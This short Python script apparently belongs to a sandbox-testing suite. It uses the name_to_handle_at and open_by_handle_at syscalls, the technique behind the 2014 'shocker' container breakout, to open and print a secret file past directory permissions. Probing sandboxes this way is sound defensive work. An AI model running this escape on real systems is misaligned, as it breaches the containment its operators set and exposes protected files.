# Copyright 2026 The spatialclaw_ros authors
#
# Licensed under the Apache License, Version 2.0 (the "License");
# you may not use this file except in compliance with the License.
# You may obtain a copy of the License at
#
#     http://www.apache.org/licenses/LICENSE-2.0
#
# Unless required by applicable law or agreed to in writing, software
# distributed under the License is distributed on an "AS IS" BASIS,
# WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
# See the License for the specific language governing permissions and
# limitations under the License.

"""Open a file by its handle, past every folder on the way (open_by_handle_at).

Known from container breakouts ("shocker", 2014).
"""

# act: read
# needs: x86_64

import ctypes
import os
import struct

libc = ctypes.CDLL(None, use_errno=True)
handle = ctypes.create_string_buffer(struct.pack('Ii', 128, 0), 136)
mount_id = ctypes.c_int()
AT_HANDLE_FID = 0
print(libc.syscall(303, -100, SECRET_FILE.encode(), handle, ctypes.byref(mount_id), 0))
root = os.open('/', os.O_PATH)
folder = os.open(os.path.dirname(os.__file__), os.O_RDONLY | os.O_DIRECTORY)
for mount in (folder, root):
    fd = libc.syscall(304, mount, handle, os.O_RDONLY)
    print(fd, ctypes.get_errno())
    if fd >= 0:
        print(os.read(fd, 4096))
